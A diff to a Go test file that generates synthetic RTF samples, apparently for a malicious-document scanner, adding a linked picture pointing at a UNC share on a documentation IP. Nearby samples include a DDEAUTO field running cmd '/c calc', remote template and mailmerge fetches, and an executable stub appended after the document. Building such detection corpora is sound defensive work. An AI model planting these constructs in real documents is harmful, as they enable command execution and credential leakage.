@@ -89,6 +89,7 @@ func generatedCorpus(t *testing.T) map[string]string {
 		"gen-dde-nested-quote.rtf":   docStart + `Nested: {\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt DDEAUTO}} cmd "/c calc"}{\fldrslt shown}} done.` + docEnd,
 		"gen-includepicture.rtf":     docStart + `Remote: {\field{\*\fldinst INCLUDEPICTURE "http://198.51.100.7/track.png" \\d}{\fldrslt }} done.` + docEnd,
 		"gen-hyperlink.rtf":          docStart + `Link: {\field{\*\fldinst HYPERLINK "https://www.example.jp/"}{\fldrslt {\ul www.example.jp}}} and page {\field{\*\fldinst PAGE}{\fldrslt 1}}.` + docEnd,
+		"gen-linked-picture.rtf":     docStart + `Logo: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}{\sp{\sn pibName}{\sv \\\\198.51.100.7\\share\\logo.png}}{\sp{\sn pibFlags}{\sv 74}}}} end.` + docEnd,
 		"gen-template.rtf":           `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
 		"gen-mailmerge.rtf":          `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
 		"gen-trailing-data.rtf":      docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
